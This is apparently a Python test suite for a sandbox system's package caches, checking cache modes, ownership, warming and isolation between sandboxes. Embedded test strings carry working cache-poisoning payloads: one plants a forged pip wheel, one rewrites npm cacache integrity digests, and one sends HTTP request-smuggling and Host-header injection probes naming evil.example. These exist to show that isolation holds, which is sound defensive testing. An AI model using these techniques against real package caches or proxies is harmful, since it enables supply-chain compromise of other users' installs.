"""Tool caches below /cache: their modes, owners and lifetimes, and that no sandbox can put
anything into the cache of another.

The upstreams are our own (packages_fixture.py); packages are installed through the package cache.
"""
import hashlib
import io
import os
import shutil
import subprocess
import time
import unittest
import zipfile

import packages_fixture
import installers
from ripcord_test import Config, only_on
from test_packages import LISTENER, PIP, PackagesCase

VARIABLES = {"PIP_CACHE_DIR": "/cache/pip", "NPM_CONFIG_CACHE": "/cache/npm", "NPM_CONFIG_PREFER_OFFLINE": "true",
             "UV_CACHE_DIR": "/cache/uv", "YARN_CACHE_FOLDER": "/cache/yarn", "CARGO_HOME": "/cache/cargo",
             "GOMODCACHE": "/cache/go/mod", "GOCACHE": "/cache/go/build"}

# pip believes that a wheel in its cache under the name of the link is one that it has built itself, and does not
# check a digest. The forged wheel claims version 1.5 too, and prints another text.
POISON_PIP = f"""
import os, re, shutil, urllib.request
from pip._internal.cache import SimpleWheelCache
from pip._internal.models.format_control import FormatControl
from pip._internal.models.link import Link
from urllib.parse import urljoin
page = "http://{LISTENER}/pypi/simple/demo/"
html = urllib.request.urlopen(urllib.request.Request(page, headers={{"Accept": "text/html"}})).read().decode()
link = Link(urljoin(page, re.search('href="([^"]*whl[^"]*)"', html).group(1).replace("&amp;", "&")))
try:
    cache = SimpleWheelCache("/cache/pip", FormatControl())
except TypeError:
    cache = SimpleWheelCache("/cache/pip")
for top, _, files in os.walk("/cache"):
    for f in files:
        try:
            with open(os.path.join(top, f), "r+b") as out:
                out.write(b"poison")
        except OSError as e:
            print(top, f, e)
folder = cache.get_path_for_link(link)
os.makedirs(folder, exist_ok=True)
shutil.copy("/tmp/evil.whl", os.path.join(folder, link.filename))
"""

# npm checks contents against the index, and the index against nothing: both are replaced.
POISON_NPM = """
import base64, glob, hashlib, json, os
def digest(data):
    return "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
def put(data):
    d = hashlib.sha512(data).hexdigest()
    path = f"/cache/npm/_cacache/content-v2/sha512/{d[:2]}/{d[2:4]}/{d[4:]}"
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "wb").write(data)
evil = open("/tmp/evil.tgz", "rb").read()
put(evil)
swap = {}
found = glob.glob("/cache/npm/_cacache/content-v2/**/*", recursive=True)
contents = [open(p, "rb").read() for p in found if os.path.isfile(p)]
tarballs = [c for c in contents if c[:2] == b"\\x1f\\x8b" and c != evil]
for t in tarballs:
    swap[digest(t)] = (digest(evil), len(evil))
for c in contents:
    if c[:1] == b"{":
        new = c
        for t in tarballs:
            new = new.replace(digest(t).encode(), digest(evil).encode())
            new = new.replace(hashlib.sha1(t).hexdigest().encode(), hashlib.sha1(evil).hexdigest().encode())
        put(new)
        swap[digest(c)] = (digest(new), len(new))
for p in glob.glob("/cache/npm/_cacache/index-v5/**/*", recursive=True):
    if os.path.isfile(p):
        lines = []
        for line in filter(None, open(p).read().split("\\n")):
            entry = json.loads(line.split("\\t", 1)[1])
            entry["integrity"], entry["size"] = swap.get(entry["integrity"], (entry["integrity"], entry["size"]))
            text = json.dumps(entry)
            lines.append(hashlib.sha1(text.encode()).hexdigest() + "\\t" + text)
        open(p, "w").write("\\n" + "\\n".join(lines))
"""

# What a sandbox could send to make the package cache store or pass on something else: writes, another host in its links, an address
# of its own, a second request hidden in the first.
HOSTILE = f"""
import http.client, socket
evil = open("/tmp/evil", "rb").read()
paths = %r
def ask(method, path, body=None, headers={{}}):
    c = http.client.HTTPConnection("{LISTENER}", timeout=20)
    try:
        c.request(method, path, body, headers)
        answer = c.getresponse()
        answer.read()
        return answer.status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        c.close()
for path in paths:
    for method in "PUT", "POST", "PATCH", "DELETE", "MOVE":
        assert ask(method, path, evil) not in range(200, 300), (method, path)
    for fields in {{"Host": "evil.example"}}, {{"X-Forwarded-Host": "evil.example"}}, {{"Range": "bytes=1-2"}}, {{"If-None-Match": "*"}}:
        ask("GET", path, headers=fields)
    ask("GET", "http://evil.example" + path)
    for length in b"Content-Length: 4\\r\\nTransfer-Encoding: chunked", b"Content-Length: 4\\r\\nContent-Length: 0":
        with socket.create_connection(("127.0.0.1", {LISTENER.partition(":")[2]})) as s:
            s.sendall(b"GET %%s HTTP/1.1\\r\\nHost: x\\r\\n%%s\\r\\n\\r\\n0\\r\\n\\r\\nPUT %%s HTTP/1.1\\r\\nHost: x\\r\\n"
                      b"Content-Length: %%d\\r\\n\\r\\n%%s" %% (path.encode(), length, path.encode(), len(evil), evil))
"""


class CachesCase(PackagesCase):
    def install(self, name, prefix=""):
        """What an installed `demo` says of itself."""
        return self.shell(name, f"rm -rf /tmp/t && {prefix} {PIP} install -q --target /tmp/t demo 2>&1 "
                          f"&& PYTHONPATH=/tmp/t /usr/bin/python3 -c 'import demo; print(demo.version)'").split("\n")[-2]

    def npm_install(self, name, prefix=""):
        return self.shell(name, "rm -rf /tmp/n && mkdir /tmp/n && cd /tmp/n && "
                          f"{prefix} npm install --no-audit --no-fund --no-update-notifier demo >&2 "
                          "&& node -p 'require(\"demo\")'").strip()

    def files(self, name, folder):
        return sorted(self.shell(name, f"find {folder} -type f").split())

    def put(self, name, data, path):
        file = self.folder / os.path.basename(path)
        file.write_bytes(data)
        self.root.ok("cp", file, f"{name}:{path}")

    def poison_pip(self, name):
        evil = packages_fixture.make_wheel("demo", "1.5")[1].replace(b"version = '1.5'", b"version = '6.6'")
        self.put(name, repack(evil), "/tmp/evil.whl")
        self.root.ok("exec", name, "--", "/usr/bin/python3", "-c", POISON_PIP)

    def poison_npm(self, name):
        evil = packages_fixture.make_tarball("demo", "6.6.0")[0]
        self.put(name, evil, "/tmp/evil.tgz")
        self.root.ok("exec", name, "--", "/usr/bin/python3", "-c", POISON_NPM)

    def send_hostile(self, name, *paths):
        self.put(name, b"evil bytes", "/tmp/evil")
        self.root.ok("exec", name, "--", "/usr/bin/python3", "-c", HOSTILE % (paths,))

    def digest(self, name, download):
        """Of the one file that a download has brought."""
        return self.shell(name, f"rm -rf /tmp/d && mkdir /tmp/d && cd /tmp/d && {download} >&2 && sha256sum *").split()[0]


def repack(wheel):
    """The same files with the right sums: what was changed in it was not."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(wheel)) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            start = info.header_offset + 30 + len(info.filename)
            new.writestr(zipfile.ZipInfo(info.filename), wheel[start:start + info.file_size])
    return out.getvalue()


class Use(CachesCase):
    def test_pip_cache_dir_is_used(self):
        self.up.add_wheel("demo", "1.5", os.urandom(50000))
        self.start_sandbox("a")
        self.assertEqual(self.install("a", "env -u PIP_CACHE_DIR"), "1.5")
        self.assertEqual(self.files("a", "/cache/pip"), [])
        self.assertEqual(self.install("a"), "1.5")
        self.assertNotEqual(self.files("a", "/cache/pip"), [])
        self.assertEqual(self.shell("a", "id -u; stat -c %u /cache/pip").split(), ["1000", "1000"])
        before = self.packages("a")
        self.assertEqual(self.install("a"), "1.5")
        self.assertLess(self.packages("a") - before, 50000, "the wheel came out of the tool's own cache")

    def packages(self, name):
        return self.root.ok("show", name, "--json").json()["packages"]["pypi"]["bytes_store"]

    @unittest.skipUnless(shutil.which("npm"), "needs npm")
    def test_npm_cache_is_used(self):
        self.up.add_npm("demo", "1.5.0", os.urandom(50000))
        self.start_sandbox("a")
        self.assertEqual(self.npm_install("a", "env -u NPM_CONFIG_CACHE"), "1.5.0")
        self.assertEqual(self.files("a", "/cache/npm"), [])
        self.assertEqual(self.npm_install("a"), "1.5.0")
        self.assertNotEqual(self.files("a", "/cache/npm"), [])
        self.root.ok("stop", "a")
        self.up.stop()
        self.root.ok("cache", "prune", "--keep", "0")
        self.assertEqual(self.npm_install("a", "env NPM_CONFIG_OFFLINE=true"), "1.5.0")

    def test_pnpm_cache_is_used(self):
        """With a pnpm that reads npm's variables, and with one that has its own."""
        if not installers.folder()[0]:
            self.skipTest(installers.folder()[1])
        self.up.add_npm("demo", "1.5.0", os.urandom(50000))
        for i, pnpm in enumerate(("node /tools/pnpm/node_modules/pnpm/bin/pnpm.cjs", "/tools/pnpm-now/node_modules/.bin/pnpm")):
            name = f"a{i}"
            self.start_sandbox(name)
            self.shell(name, f"mkdir /tmp/n && cd /tmp/n && echo '{{}}' >package.json && {pnpm} add demo >&2")
            self.assertTrue({"meta", "store"} <= {f.split("/")[3] for f in self.files(name, "/cache/pnpm")}, pnpm)

    def test_poisoning_is_impossible(self):
        """The same attack against mode `shared` succeeds: it is an attack."""
        file, wheel = self.up.add_wheel("demo", "1.5")
        true = hashlib.sha256(wheel).hexdigest()
        for name, mode in ("a", "layered"), ("b", "layered"), ("c", "shared"), ("d", "shared"):
            self.start_sandbox(name, "--cache", f"pip={mode}")
        for attacker, victim, expected in ("a", "b", "1.5"), ("c", "d", "6.6"):
            self.assertEqual(self.install(attacker), "1.5")
            self.poison_pip(attacker)
            self.assertEqual(self.install(attacker), "6.6", "the attack works on the attacker")
            self.assertEqual(self.install(victim), expected)
        self.send_hostile("a", "/pypi/simple/demo/", f"/pypi/files/demo/{true}/{file}",
                          f"/pypi/files/demo/{hashlib.sha256(b'evil bytes').hexdigest()}/{file}")
        self.assertEqual(self.install("b"), "1.5")
        for option in "", "--no-cache-dir":
            self.assertEqual(self.digest("b", f"{PIP} download -q {option} demo"), true)
        self.root.ok("cache", "verify")

    @unittest.skipUnless(shutil.which("npm"), "needs npm")
    def test_poisoning_is_impossible_with_npm(self):
        tarball = self.up.add_npm("demo", "1.5.0")
        for name, mode in ("a", "layered"), ("b", "layered"), ("c", "shared"), ("d", "shared"):
            self.start_sandbox(name, "--cache", f"npm={mode}")
        for attacker, victim, expected in ("a", "b", "1.5.0"), ("c", "d", "6.6.0"):
            self.assertEqual(self.npm_install(attacker), "1.5.0")
            self.poison_npm(attacker)
            self.assertEqual(self.npm_install(victim), expected)
        self.send_hostile("a", "/npm/demo", "/npm/demo/-/demo-1.5.0.tgz", "/npm/-/npm/v1/demo")
        self.assertEqual(self.npm_install("b"), "1.5.0")
        for option in "", "--cache /tmp/other":
            self.assertEqual(self.digest("b", f"npm pack --silent {option} demo"), hashlib.sha256(tarball).hexdigest())
        self.root.ok("cache", "verify")


@only_on("native")
class Warm(CachesCase):
    """The shared base: filled by `cache warm` alone."""

    def warm(self, *args):
        return self.root.ok("cache", "warm", *args, "--json").json()

    def tools(self):
        """Kind, tool and owner of what there is."""
        listed = self.root.ok("cache", "ls", "--json").json()
        self.assertEqual(listed["errors"], [])
        return sorted((c["kind"], c["tool"], c["owner"]) for c in listed["tools"])

    def digests(self, name, folder):
        return self.shell(name, f"cd {folder} && find . -type f -exec sha256sum {{}} + | sort")

    def test_base_cannot_be_poisoned(self):
        """All see what was fetched in advance; what one does to it, none of the others sees."""
        payload = os.urandom(50000)
        self.up.add_wheel("demo", "1.5", payload)
        self.assertGreater(self.warm("--tool", "pip", "demo")["bytes"], 50000)
        self.assertEqual(self.tools(), [("base", "pip", "")])
        for name in "ab":
            self.root.ok("up", name)
        before = self.digests("b", "/cache/pip")
        self.assertEqual(self.install("a"), "1.5")
        self.assertLess(self.root.ok("show", "a", "--json").json()["packages"]["pypi"]["bytes_store"], 50000,
                        "the wheel was there already")
        self.poison_pip("a")
        self.shell("a", "find /cache/pip -type f -exec sh -c 'echo poison >$0' {} ';'; rm -rf /cache/npm; touch /cache/pip/new")
        self.assertNotEqual(self.digests("a", "/cache/pip"), before)
        self.root.ok("up", "c")
        for name in "bc":
            self.assertEqual(self.digests(name, "/cache/pip"), before)
            self.assertEqual(self.install(name), "1.5")
        self.assertIn(("base", "pip", ""), self.tools())

    def test_files_modes_and_prune(self):
        self.up.add_wheel("demo", "1.5", requires=["other"])
        self.up.add_wheel("other", "2.0")
        requirements = self.folder / "requirements.txt"
        requirements.write_text("# pip-compile --generate-hashes\ndemo==1.5  # via --nothing\n", encoding="utf-8")
        self.warm("--tool", "pip", "--requirements", requirements)
        self.root.ok("up", "o", "--cache", "pip=off")
        self.assertEqual(self.shell("o", "find /cache/pip -type f"), "")
        for name, mode in ("l", "layered"), ("r", "readonly"), ("p", "private"):
            self.root.ok("up", name, "--cache", f"pip={mode}")
        filled = self.files("l", "/cache/pip")
        self.assertEqual(len(filled), 2)
        self.assertEqual(self.files("r", "/cache/pip"), filled)
        self.assertEqual(self.files("p", "/cache/pip"), [])
        for name in "lr":
            self.shell(name, f"echo x >/cache/pip/x && rm {filled[0]}")
            self.root.ok("stop", name)
        self.assertEqual(self.files("l", "/cache/pip"), [filled[1], "/cache/pip/x"])
        self.assertEqual(self.files("r", "/cache/pip"), filled)
        self.root.ok("cache", "prune", "--tool", "pip")
        self.root.ok("up", "n")
        self.assertEqual(self.files("n", "/cache/pip"), [])
        self.assertNotIn(("base", "pip", ""), self.tools())

    @unittest.skipUnless(shutil.which("npm"), "needs npm")
    def test_package_lock(self):
        self.up.add_npm("demo", "1.5.0", dependencies={"other": "^2.0.0"}, scripts={"install": "touch /cache/npm/ran"})
        self.up.add_npm("other", "2.0.0")
        self.root.ok("up", "a")
        self.npm_install("a")
        lock = self.folder / "package-lock.json"
        self.root.ok("cp", "a:/tmp/n/package-lock.json", lock)
        self.warm("--tool", "npm", "--package-lock", lock)
        self.root.ok("up", "b")
        self.shell("b", "mkdir /tmp/n && echo '{\"dependencies\": {\"demo\": \"^1.5.0\"}}' >/tmp/n/package.json")
        self.root.ok("cp", lock, "b:/tmp/n/package-lock.json")
        self.assertEqual(self.shell("b", "cd /tmp/n && npm ci --offline --ignore-scripts --no-audit >&2 && node -p 'require(\"demo\")'"),
                         "1.5.0\n")
        self.assertEqual(self.shell("b", "find /cache/npm -name ran"), "")

    def test_killed_in_the_middle(self):
        """The old base stays, and is used; nothing of the new one is left."""
        self.up.add_wheel("demo", "1.5")
        self.warm("--tool", "pip", "demo")
        self.up.add_wheel("late", "1.0")
        for wait in 0.2, 0.6:
            self.up.delay = 1
            with self.root.popen("cache", "warm", "--tool", "pip", "late",
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
                time.sleep(wait)
                self.root.kill_daemon()
                self.assertNotEqual(process.wait(60), 0)
            self.up.delay = 0
        self.root.ok("up", "a")
        self.assertEqual(len(self.files("a", "/cache/pip")), 1)
        self.warm("--tool", "pip", "late")
        self.root.ok("up", "b")
        self.assertEqual(len(self.files("b", "/cache/pip")), 2)
        for box in self.root.sandboxes():
            if box["name"].startswith("warm-"):
                self.root.ok("rm", "-f", box["name"])
        self.assertEqual([p.name for p in (self.root.path / "state" / "caches" / "base").glob("tmp*")], [])

    def test_bad_input(self):
        self.up.add_wheel("demo", "1.5")
        file = self.folder / "file"
        for text, words, code, *args in (
                ("", "--tool is missing", 2, "demo"), ("", "no package", 2, "--tool", "pip"),
                ("", "'pip'", 2, "--tool", "pipp", "demo"), ("", "cannot be warmed", 7, "--tool", "go", "demo"),
                ("", "invalid package", 2, "--tool", "pip", "--", "--index-url=http://x"),
                ("", "invalid package", 2, "--tool", "pip", "demo @ http://x/"),
                ("-r other.txt", "line 1", 2, "--tool", "pip", "--requirements", file),
                ("demo\n--no-binary :all:", "line 2", 2, "--tool", "pip", "--requirements", file),
                ("demo --global-option=x", "line 1", 2, "--tool", "pip", "--requirements", file),
                ("demo", "does not support requirements", 2, "--tool", "npm", "--requirements", file),
                ("{}", "packages", 2, "--tool", "npm", "--package-lock", file),
                ("{", "package-lock", 2, "--tool", "npm", "--package-lock", file),
                ("", "No matching distribution", 2, "--tool", "pip", "nothing-of-that-name")):
            file.write_text(text, encoding="utf-8")
            done = self.root.run("cache", "warm", *args)
            self.assertIn(words, done.err.decode())
            self.assert_exit(done, code)
        self.assertEqual((self.root.sandboxes(), self.tools()), ([], []))


class Modes(CachesCase):
    def environment(self, name):
        return dict(line.split("=", 1) for line in self.root.ok("exec", name, "--", "env").text.splitlines())

    def test_variables_and_own_settings(self):
        self.root.ok("up", "a", "-e", "npm_config_cache=/tmp/mine", "--cache", "go=off")
        env = self.environment("a")
        want = {k: v for k, v in VARIABLES.items() if not k.startswith("GO")}
        del want["NPM_CONFIG_CACHE"]
        self.assertEqual({k: env.get(k) for k in want}, want)
        for name in "NPM_CONFIG_CACHE", "GOCACHE", "GOMODCACHE":
            self.assertNotIn(name, env)
        self.assertEqual(self.root.ok("exec", "a", "-e", "PIP_CACHE_DIR=/tmp/x", "--", "sh", "-c", "echo $PIP_CACHE_DIR").text,
                         "/tmp/x\n")
        off = self.root.ok("run", "--cache", "all=off", "--", "env").text
        self.assertFalse([v for v in VARIABLES if v + "=" in off], off)

    def test_each_mode(self):
        """Where what is written goes, and whether it is there after a stop, a re-create and a removal."""
        self.root.ok("up", "a", "--cache", "pip=shared", "--cache", "npm=readonly", "--cache", "uv=private",
                     "--cache", "go=off", "--cache", "yarn=shared:team-1")
        self.root.ok("up", "b", "--cache", "pip=shared", "--cache", "yarn=shared:team-2")
        self.shell("a", "for t in pip npm uv cargo yarn; do echo a >/cache/$t/x; done")
        if Config.engine == "native":
            self.assertNotEqual(self.root.run("exec", "a", "--", "sh", "-c", "echo a >/cache/go/x").code, 0)
        self.assertEqual(self.shell("b", "ls /cache/*/x"), "/cache/pip/x\n")
        self.root.ok("stop", "a")
        self.assertEqual(self.shell("a", "ls /cache/*/x").split(), [f"/cache/{t}/x" for t in ("cargo", "pip", "uv", "yarn")])
        self.root.ok("up", "a", "-e", "X=1")
        self.assertEqual(self.shell("a", "ls /cache/*/x").split(), [f"/cache/{t}/x" for t in ("cargo", "pip", "uv", "yarn")])
        self.root.ok("rm", "-f", "a")
        self.root.ok("up", "a")
        self.assertEqual(self.shell("a", "find /cache -name x"), "")

    def test_ownership_and_flags(self):
        for name, user in ("a", "agent"), ("b", "root"), ("c", "1234"):
            self.root.ok("up", name, "--user", user)
            owners = self.shell(name, "id -u; stat -c %u /cache/pip /cache/npm; touch /cache/pip/x && echo fine").split()
            self.assertEqual(owners[1:], [owners[0], owners[0], "fine"], user)
        for line in self.shell("a", "cat /proc/self/mounts").splitlines():
            if Config.engine == "native" and (" /cache" in line or " / " in line):
                self.assertIn("nosuid,nodev", line)

    def test_daemon_killed(self):
        self.root.ok("up", "a")
        self.shell("a", "echo kept >/cache/pip/x")
        self.root.kill_daemon()
        self.assertEqual(self.shell("a", "cat /cache/pip/x"), "kept\n")
        self.root.ok("stop", "a")
        self.root.kill_daemon()
        self.assertEqual(self.shell("a", "cat /cache/pip/x"), "kept\n")

    def test_bad_input(self):
        for cache, *words in (("pip=shred", "'shared'"), ("pipp=off", "'pip'"), ("all=shared", "each tool by name"),
                              ("pip=private:x", "group"), ("pip=shared:../x", "invalid group"), ("pip=shared:", "group")):
            done = self.root.run("up", "a", "--cache", cache)
            self.assert_exit(done, 2)
            for word in words:
                self.assertIn(word, done.err.decode())
        self.assertEqual(self.root.sandboxes(), [])
